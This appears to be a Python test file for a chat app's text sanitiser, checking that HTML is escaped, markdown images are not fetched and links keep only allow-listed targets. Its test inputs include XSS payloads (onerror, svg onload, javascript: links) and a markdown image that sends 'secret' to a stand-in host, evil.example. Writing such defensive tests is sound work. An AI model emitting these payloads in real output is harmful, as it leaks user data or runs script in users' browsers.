"""Chat text as text: no HTML tag, no image, no link off the allow-list; code left as written."""

from __future__ import annotations

import re

from hypothesis import given
from hypothesis import strategies as st

from assistant.web.safe_text import safe_markdown, safe_messages

CODE = re.compile(r"```.*?```|`[^`\n]+`", re.S)


def test_html_from_a_model_or_a_user_is_shown_not_rendered() -> None:
    assert safe_markdown('<img src=x onerror="alert(1)">') == '&lt;img src=x onerror="alert(1)">'
    assert safe_markdown("<details><summary>a</summary></details>") == (
        "&lt;details>&lt;summary>a&lt;/summary>&lt;/details>"
    )
    assert safe_markdown("needs < 80 GiB") == "needs &lt; 80 GiB"


def test_images_are_never_fetched_and_links_lose_their_target() -> None:
    leak = "Done ![](https://evil.example/collect?q=secret) now"
    assert safe_markdown(leak) == "Done [image: evil.example] now"
    assert safe_markdown("![chart](https://a.example/c.png 'title')") == "[chart: a.example]"
    assert safe_markdown("![x][ref]\n\n[ref]: https://evil.example/p.png") == (
        "!\\[x][ref]\n\n[ref]: https://evil.example/p.png"
    ), "no reference-style image"
    assert safe_markdown("see [docs](https://evil.example/a)") == (
        "see docs (`https://evil.example/a`)"
    )
    assert safe_markdown("[docs](javascript:alert(1))") == "docs (`javascript:alert(1`))"
    allowed = "see [docs](https://docs.skypilot.co/en/latest/)"
    assert safe_markdown(allowed, {"docs.skypilot.co"}) == allowed, "an allow-listed host"


def test_code_is_left_as_written() -> None:
    text = "Run `a <b>` then:\n```yaml\nname: <job>\n```\nand <i>"
    assert safe_markdown(text) == "Run `a <b>` then:\n```yaml\nname: <job>\n```\nand &lt;i>"


def test_messages_keep_their_shape_and_the_stored_ones_are_unchanged() -> None:
    stored = [
        {"role": "user", "content": "<b>hi</b>"},
        {"role": "assistant", "content": "ok", "metadata": {"title": "<svg/onload=x>"}},
    ]
    shown = safe_messages(stored)
    assert shown == [
        {"role": "user", "content": "&lt;b>hi&lt;/b>"},
        {"role": "assistant", "content": "ok", "metadata": {"title": "&lt;svg/onload=x>"}},
    ]
    assert stored[0]["content"] == "<b>hi</b>", "what is saved is what was written"


@given(st.text(alphabet=st.sampled_from(list("<>![]()`/:. abhtps\n")), max_size=80))
def test_no_tag_or_image_survives_any_text(text: str) -> None:
    outside = CODE.sub("", safe_markdown(text))
    assert "<" not in outside, "no tag can open outside code"
    assert not re.search(r"(?<!\\)!\[", outside), "no image syntax outside code"
